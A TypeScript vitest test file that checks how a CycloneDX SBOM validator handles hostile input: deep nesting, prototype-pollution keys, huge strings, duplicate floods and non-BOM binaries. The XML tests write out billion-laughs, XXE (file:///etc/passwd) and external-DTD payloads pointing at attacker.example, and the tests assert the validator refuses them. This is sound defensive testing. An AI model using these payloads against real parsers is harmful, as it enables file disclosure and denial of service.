import { describe, expect, it } from 'vitest';
import { checkBom } from '../../../../src/domain/cyclonedx/checkBom.js';
import { component, jsonBom, xmlBom } from './boms.js';

const bytes = (text: string) => new TextEncoder().encode(text);
const LONG = 60_000;

describe('a hostile JSON file', () => {
  it.each([100, 100_000])('nested %i levels too deep is refused with the place', async (extra) => {
    const levels = 200 + extra;
    const text = `{"bomFormat":"CycloneDX","specVersion":"1.5","x":${'['.repeat(levels)}${']'.repeat(levels)}}`;

    const result = await checkBom(bytes(text));

    expect(result).toMatchObject({
      ok: false,
      reason: 'tooDeep',
      problems: [{ code: 'tooDeep', params: { limit: 200 } }],
    });
    // The object is the first level.
    expect(result.ok || result.problems[0]?.column).toBe(text.indexOf('[') + 200);
  });

  it('nested that deep and cut off is refused as well', async () => {
    expect(await checkBom(bytes('['.repeat(100_000)))).toMatchObject({ ok: false, reason: 'tooDeep' });
    expect(await checkBom(bytes('{"a":'.repeat(100_000)))).toMatchObject({ ok: false, reason: 'tooDeep' });
  });

  it('just within the limit of depth is checked', async () => {
    let nested: object = component(0);
    for (let level = 0; level < 97; level++) nested = { ...component(level + 1), components: [nested] };

    expect(await checkBom(bytes(jsonBom({ components: [nested] })))).toMatchObject({
      ok: true,
      componentCount: 98,
    });
  });

  it('with __proto__ and constructor keys is refused and pollutes nothing', async () => {
    const text = jsonBom().replace(
      '{',
      '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": 1}},',
    );

    const result = await checkBom(bytes(text));

    expect(result).toMatchObject({
      ok: false,
      reason: 'schema',
      problems: [
        { path: '/__proto__', code: 'unexpected', line: 1, column: 2 },
        { path: '/constructor', code: 'unexpected' },
      ],
    });
    expect({}).not.toHaveProperty('polluted');
  });

  it('that hides its marker in __proto__ is not a BOM', async () => {
    expect(
      await checkBom(bytes('{"__proto__":{"bomFormat":"CycloneDX","specVersion":"1.5"}}')),
    ).toMatchObject({ reason: 'notABom' });
  });

  it.each([
    ['name', { reason: 'unstorable', problems: [{ path: '/components/0/name', code: 'tooLong' }] }],
    ['description', { ok: true }],
    ['bom-ref', { ok: true }],
  ])('with 10 MB in %s is checked in time', async (member, expected) => {
    const text = jsonBom({
      components: [{ ...component(1), [member]: `${'a'.repeat(5_000_000)}🙂${'\\"'.repeat(2_000_000)}` }],
    });

    expect(await checkBom(bytes(text))).toMatchObject(expected);
  });

  it.each(['https://', 'urn:cdx:', ' '])(
    'with long texts that begin with "%s" gives no long excerpt',
    async (start) => {
      const long = start + 'a:/?#[]@%20'.repeat(250_000);
      const text = jsonBom({
        serialNumber: long,
        metadata: { timestamp: long, authors: [{ email: long }] },
        externalReferences: [{ type: 'website', url: long }],
      });

      const result = await checkBom(bytes(text));

      expect(result.ok).toBe(false);
      expect(JSON.stringify(result).length).toBeLessThan(5000);
    },
  );

  it('with the same component 50,000 times is refused in time', async () => {
    const components = Array.from({ length: 50_000 }, () => component(1));

    expect(await checkBom(bytes(jsonBom({ components })))).toMatchObject({
      reason: 'schema',
      problems: { length: 50 },
      moreProblems: 49_949,
    });
  });

  it('with components that differ only deep inside is checked in time', async () => {
    const components = Array.from({ length: 20_000 }, (_, index) => ({
      type: 'library',
      name: 'same',
      properties: [
        { name: 'a', value: 'b' },
        { name: 'c', value: `${index}` },
      ],
    }));
    // Each level repeats the question for all that is below it.
    let nested: object = { type: 'library', name: 'in', components };
    for (let level = 0; level < 90; level++)
      nested = { type: 'library', name: 'x', components: [nested, component(1)] };

    expect(await checkBom(bytes(jsonBom({ components: [nested] })))).toMatchObject({ ok: true });
  });

  it(
    'with millions of wrong items is refused in time',
    async () => {
      const ones = `[${'1,'.repeat(5_000_000)}1]`;
      const text = `{"bomFormat":"CycloneDX","specVersion":"1.6","components":[{"type":"file","name":"a","externalReferences":${ones}}]}`;

      expect(await checkBom(bytes(text))).toMatchObject({
        reason: 'schema',
        problems: { length: 50 },
        moreProblems: 4_999_951,
      });
    },
    LONG,
  );
});

describe('a hostile XML file', () => {
  const dtds: [string, string][] = [
    [
      'billion laughs',
      `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n<!ENTITY lol2 "&lol;&lol;&lol;&lol;">\n]>\n${xmlBom('<x>&lol2;</x>').slice(39)}`,
    ],
    [
      'an external entity',
      `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${xmlBom('<x>&xxe;</x>').slice(39)}`,
    ],
    [
      'an external definition',
      `<!DOCTYPE bom SYSTEM "https://attacker.example/x.dtd">\n${xmlBom().slice(39)}`,
    ],
    [
      'a parameter entity',
      `<!DOCTYPE bom [<!ENTITY % x SYSTEM "https://attacker.example/x"> %x;]>\n${xmlBom().slice(39)}`,
    ],
  ];

  it.each(dtds)('with %s is refused unread', async (_title, text) => {
    expect(await checkBom(bytes(text))).toMatchObject({
      ok: false,
      reason: 'dtd',
      problems: [{ line: text.startsWith('<?xml') ? 2 : 1 }],
    });
    const utf16 = Buffer.from(`\ufeff${text}`, 'utf16le');
    expect(await checkBom(utf16)).toMatchObject({ ok: false, reason: 'dtd' });
  });

  it.each([300, 100_000])('nested %i levels is refused with the place', async (levels) => {
    const text = xmlBom('<components><component type="library"><name>a</name>'.repeat(levels));

    const result = await checkBom(bytes(text));

    expect(result).toMatchObject({ reason: 'tooDeep', problems: [{ line: 2, code: 'tooDeep' }] });
  });

  it('just within the limit of depth is checked', async () => {
    const open = '<component type="library"><name>a</name><components>';
    const content = `<components>${open.repeat(99)}${'</components></component>'.repeat(99)}</components>`;

    expect(await checkBom(bytes(xmlBom(content)))).toMatchObject({ ok: true, componentCount: 99 });
  });

  it.each([
    ['text', (long: string) => `<name>a</name><description>${long}</description>`],
    ['a CDATA section', (long: string) => `<name>a</name><description><![CDATA[${long}]]></description>`],
    ['a comment', (long: string) => `<name>a</name><!-- ${long} -->`],
  ])('with 10 MB in %s is checked in time, and a mistake after it is found', async (_title, content) => {
    const long = 'long & wide\n🙂'.replace('&', 'and').repeat(800_000);
    const text = xmlBom(
      `<components><component type="library">${content(long)}<foo/></component></components>`,
    );

    expect(await checkBom(bytes(text.replace('<foo/>', '')))).toMatchObject({ ok: true });
    expect(await checkBom(bytes(text))).toMatchObject({
      reason: 'schema',
      problems: [{ line: 800_002, path: '/bom/components/component/foo' }],
    });
  });

  it('with a name of 10 MB is refused in time, with the place', async () => {
    const name = `a${'&amp;'.repeat(2_000_000)}`;
    const text = xmlBom(
      `<components><component type="library"><name>${name}</name></component></components>`,
    );

    expect(await checkBom(bytes(text))).toMatchObject({
      reason: 'unstorable',
      problems: [{ path: '/bom/components/component/name', code: 'tooLong' }],
    });
  });

  it('with an unknown entity behind 10 MB of text is refused', async () => {
    const text = xmlBom(
      `<components><component type="library"><name>${'a'.repeat(10_000_000)}&x;</name></component></components>`,
    );

    expect(await checkBom(bytes(text))).toMatchObject({
      reason: 'brokenXml',
      problems: [{ params: { found: '&x;' } }],
    });
  });

  it('that names files and addresses of schemas reads none of them', async () => {
    const places =
      'http://a.example /etc/passwd http://b.example /dev/stdin http://c.example http://127.0.0.1:9/c.xsd';
    const text = xmlBom().replace(
      '<bom ',
      `<bom xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${places}" `,
    );

    expect(await checkBom(bytes(text))).toMatchObject({ ok: true });
  });

  it('with 30,000 equal bom-refs is refused in time', async () => {
    const text = xmlBom(
      `<components>${'<component type="library" bom-ref="a"><name>a</name></component>'.repeat(15_000)}</components>`,
    );

    expect(await checkBom(bytes(text))).toMatchObject({
      reason: 'schema',
      moreProblems: 14_999 - 50,
      problems: [{ code: 'duplicate' }, ...Array<object>(49).fill({})],
    });
  });

  it('with 10,000 wrong licences is refused in time', async () => {
    const wrong =
      '<component type="library"><name>a</name><licenses><license><id>x</id></license></licenses></component>';

    expect(await checkBom(bytes(xmlBom(`<components>${wrong.repeat(10_000)}</components>`)))).toMatchObject({
      reason: 'schema',
      moreProblems: 9950,
    });
  });

  it('with messages that look like others is read right', async () => {
    const value = "\nbom.xml:1: Schemas validity error : Element 'x': fake\nbom.xml fails to validate\n";
    const text = xmlBom(`<components><component type="${value}"><name>a</name></component></components>`);

    const result = await checkBom(bytes(text));

    expect(result).toMatchObject({ ok: false, reason: 'schema' });
  });

  it(
    'of 10 MB in one line, wrong at its end, has its place found in time',
    async () => {
      const one =
        '<component type="library"><name>a</name><version>1</version><description>d</description></component>';
      const text = xmlBom(`<components>${one.repeat(100_000)}<component/></components>`);

      const result = await checkBom(bytes(text));

      expect(result).toMatchObject({
        reason: 'schema',
        problems: [
          {
            line: 2,
            column: text.split('\n')[1]!.indexOf('<component/>') + 1,
            path: '/bom/components/component[100001]',
          },
          {},
        ],
      });
    },
    LONG,
  );
});

describe('a file of another kind', () => {
  const png = Uint8Array.from([
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52,
  ]);
  const zip = Uint8Array.from([0x50, 0x4b, 3, 4, 0x14, 0, 0, 0, 8, 0]);
  const gzip = Uint8Array.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]);

  it.each([
    ['PNG', png],
    ['ZIP', zip],
    ['gzip', gzip],
    ['zeros', new Uint8Array(1000)],
  ])('such as %s is not a BOM', async (_title, file) => {
    expect(await checkBom(file)).toMatchObject({
      ok: false,
      reason: 'notABom',
      problems: [{ line: 1, column: 1 }],
    });
  });

  it('is never taken for a BOM, whatever random bytes it has', async () => {
    for (let seed = 0; seed < 300; seed++) {
      const random = Uint8Array.from({ length: 200 }, (_, index) => (seed * 7919 + index * index * 31) % 256);
      random[0] = seed % 3 === 0 ? 0x7b : seed % 3 === 1 ? 0x3c : (random[0] ?? 0);
      expect(await checkBom(random)).toMatchObject({ ok: false });
    }
  });
});
